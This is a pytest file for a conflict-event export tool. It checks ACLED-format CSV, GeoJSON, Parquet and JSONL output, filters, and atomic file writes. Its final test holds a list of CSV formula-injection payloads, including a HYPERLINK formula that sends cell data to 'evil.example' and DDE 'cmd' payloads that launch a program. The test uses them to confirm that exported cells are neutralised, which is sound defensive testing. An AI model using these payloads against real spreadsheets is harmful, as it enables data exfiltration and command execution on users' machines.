"""Exports: ACLED's CSV columns and conventions, GeoJSON, Parquet, JSONL; filters; atomic files."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import httpx
import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner

from conftest import make_document, make_event
from eventwire.cli import main
from eventwire.export import ACLED_COLUMNS, export_events, interaction_code
from eventwire.flat import EVENT_COLUMNS
from eventwire.model import Actor
from eventwire.output import csv_row
from eventwire.store import open_store


def fill(url: str) -> None:
    with open_store(url) as store:
        store.add_document(
            make_document("Strike on Sarmada.", "https://r.test/1", source="Reuters"),
            [make_event(killed=5, notes="Russian jets struck Sarmada.", confidence=0.9)],
        )
        store.add_document(
            make_document("Strike in Sarmada killed 7.", "https://a.test/1", source="AFP"),
            [make_event(killed=7, high=9)],
        )
        store.add_document(
            make_document("Clashes in Kharkiv.", "https://k.test/1", source="AP"),
            [
                make_event(
                    day="2024-10-01",
                    place="Kharkiv",
                    lat=49.99,
                    lon=36.23,
                    admin1="Kharkiv",
                    country="UA",
                    event_type="Battles",
                    sub_event_type="Armed clash",
                    actor1="Military Forces of Russia (2000-)",
                    actor2="Military Forces of Ukraine (2019-)",
                    actor2_kind="state forces",
                    killed=None,
                    date_precision="week",
                )
            ],
        )
        store.add_document(
            make_document("Talks in Ankara.", "https://t.test/1"),
            [make_event(event_type=None, sub_event_type=None, plover="CONSULT")],
        )


def run_export(url: str, *args: str) -> str:
    result = CliRunner().invoke(main, ["export", "--db", url, *args])
    assert result.exit_code == 0, result.output
    return result.stdout


@pytest.fixture
def database(tmp_path: Path) -> str:
    url = str(tmp_path / "events.db")
    fill(url)
    return url


def test_acled_csv_has_acleds_columns_and_conventions(store_url):
    fill(store_url)
    rows = list(csv.DictReader(io.StringIO(run_export(store_url, "--format", "acled-csv"))))
    assert tuple(rows[0]) == ACLED_COLUMNS
    strike, clash = sorted(rows, key=lambda row: row["event_date"], reverse=True)
    assert strike["event_id_cnty"].startswith("SYR")
    assert (strike["event_date"], strike["year"], strike["time_precision"]) == ("2024-12-02", "2024", "1")
    assert (strike["disorder_type"], strike["event_type"]) == (
        "Political violence",
        "Explosions/Remote violence",
    )
    assert (strike["inter1"], strike["inter2"], strike["interaction"]) == ("1", "7", "17")
    assert strike["civilian_targeting"] == "Civilian targeting"
    assert (strike["iso"], strike["region"], strike["country"]) == ("760", "Middle East", "Syria")
    assert (strike["admin1"], strike["location"], strike["geo_precision"]) == ("Idlib", "Sarmada", "1")
    assert (strike["latitude"], strike["longitude"]) == ("36.1800", "36.7200")
    # Sources in the merge's reading order (by article, not by arrival); the notes of the surest report.
    assert (strike["source"], strike["fatalities"], strike["notes"]) == (
        "AFP; Reuters",
        "5",
        "Russian jets struck Sarmada.",
    )
    assert int(strike["timestamp"]) > 1_600_000_000
    assert (clash["country"], clash["region"], clash["iso"]) == ("Ukraine", "Europe", "804")
    assert (clash["time_precision"], clash["fatalities"], clash["interaction"]) == ("2", "0", "11")


def test_acled_csv_leaves_out_events_outside_acleds_scope(database):
    rows = list(csv.DictReader(io.StringIO(run_export(database))))
    assert len(rows) == 2 and all(row["event_type"] for row in rows)


def test_interaction_codes_put_the_lower_actor_code_first():
    rebels, state = Actor(name="HTS", kind="rebel group"), Actor(name="Army", kind="state forces")
    assert interaction_code(rebels, state) == 12
    assert interaction_code(Actor(name="Crowd", kind="protesters"), None) == 60
    assert interaction_code(None, state) == ""


def test_geojson_is_a_feature_collection_of_points(database):
    collection = json.loads(run_export(database, "--format", "geojson"))
    assert collection["type"] == "FeatureCollection" and len(collection["features"]) == 3
    sarmada = next(f for f in collection["features"] if f["properties"]["location"] == "Sarmada")
    assert sarmada["geometry"] == {"type": "Point", "coordinates": [36.72, 36.18]}
    assert sarmada["properties"]["num_sources"] == 2
    assert (sarmada["properties"]["fatalities_low"], sarmada["properties"]["fatalities_high"]) == (5, 9)


def test_parquet_round_trips_through_pyarrow(database, tmp_path):
    target = tmp_path / "events.parquet"
    run_export(database, "--format", "parquet", "--output", str(target))
    table = pq.read_table(target)
    assert table.num_rows == 3
    assert set(table.column("sources").to_pylist()[0]) <= {"Reuters", "AFP", "AP"}
    assert str(table.schema.field("event_date").type) == "date32[day]"


def test_jsonl_gives_one_merged_event_a_line(database):
    lines = [json.loads(line) for line in run_export(database, "--format", "jsonl").splitlines()]
    assert len(lines) == 3
    assert {line["num_sources"] for line in lines} == {1, 2}
    assert all(line["event_id"] == str(line["id"]) for line in lines)


@pytest.mark.parametrize(
    ("args", "places"),
    [
        (["--since", "2024-11-01"], {"Sarmada"}),
        (["--until", "2024-11-01"], {"Kharkiv"}),
        (["--country", "Ukraine"], {"Kharkiv"}),
        (["--country", "sy"], {"Sarmada"}),
        (["--event-type", "Battles"], {"Kharkiv"}),
        (["--bbox", "30,45,40,55"], {"Kharkiv"}),
    ],
)
def test_export_filters(database, args, places):
    lines = run_export(database, "--format", "jsonl", *args).splitlines()
    assert {json.loads(line)["location"]["name"] for line in lines} == places


def test_a_failed_export_leaves_the_previous_file_untouched(tmp_path, database):
    target = tmp_path / "out.jsonl"
    target.write_text("previous\n")

    def failing():
        with open_store(database, readonly=True) as store:
            yield from store.iter_events()
        raise RuntimeError("disk full")

    with pytest.raises(RuntimeError):
        export_events(failing(), "jsonl", target)
    assert target.read_text() == "previous\n"
    assert list(tmp_path.glob("*.part")) == []


def test_a_bad_bbox_is_a_usage_error(database):
    result = CliRunner().invoke(main, ["export", "--db", database, "--bbox", "1,2,3"])
    assert result.exit_code == 2 and "minlon,minlat,maxlon,maxlat" in result.output


def test_exporting_a_missing_database_is_a_one_line_error(tmp_path):
    result = CliRunner().invoke(main, ["export", "--db", str(tmp_path / "absent.db")])
    assert result.exit_code == 3
    assert result.output.strip() == f"eventwire: error: no database at {tmp_path / 'absent.db'}"


def test_extract_csv_and_the_exports_share_their_event_columns(database, tmp_path):
    out = tmp_path / "events.parquet"
    run_export(database, "--format", "parquet", "--output", str(out))
    parquet = pq.read_table(out).to_pylist()[0]
    with open_store(database, readonly=True) as store:
        event = next(m.event for m in store.iter_events() if m.id == parquet["id"])
    row = csv_row(event)
    assert tuple(row) == ("event_id", "doc_id", *EVENT_COLUMNS)
    assert set(EVENT_COLUMNS) <= set(parquet)
    for name in ("actor1", "fatalities", "civilians_killed", "children_killed", "country", "geo_precision"):
        assert parquet[name] == row[name]
    assert "; ".join(parquet["assoc_actor_1"]) == row["assoc_actor_1"]


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def formula_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_no_csv_cell_starts_a_formula_while_numbers_stay_numbers(tmp_path):
    """Sources and ids come from the input: every CSV eventwire writes neutralises formula starts."""
    from eventwire.api import create_app
    from eventwire.api.server import running

    url = str(tmp_path / "events.db")
    with open_store(url) as store:
        for number, formula in enumerate(FORMULAS):
            store.add_document(
                make_document(f"Strike {number}.", f"https://e.test/{number}", source=formula),
                [make_event(place=f"Town {number}", lat=-12.5 - number, lon=-45.25, country="BR")],
            )
    exported = formula_rows(run_export(url))
    with running(create_app(url)) as base:
        downloaded = formula_rows(httpx.get(base + "api/events.csv", timeout=30).text)
    for rows in (exported, downloaded):
        assert sorted(row["source"] for row in rows) == sorted("'" + formula for formula in FORMULAS)
        assert {row["longitude"] for row in rows} == {"-45.2500"}
        assert {row["latitude"] for row in rows} == {f"{-12.5 - n:.4f}" for n in range(len(FORMULAS))}

    docs = tmp_path / "docs.jsonl"
    article = "Russian warplanes struck Sarmada on Monday, killing 12 civilians, rescuers said."
    docs.write_text(json.dumps({"id": FORMULAS[0], "text": article, "published": "2024-12-04"}) + "\n")
    result = CliRunner().invoke(main, ["extract", "--input", str(docs), "--format", "csv"])
    assert result.exit_code == 0, result.output
    (row,) = formula_rows(result.stdout)
    assert row["doc_id"] == "'" + FORMULAS[0] and row["event_id"] == f"'{FORMULAS[0]}-1"
    assert row["fatalities"] == "12" and float(row["latitude"]) > 0
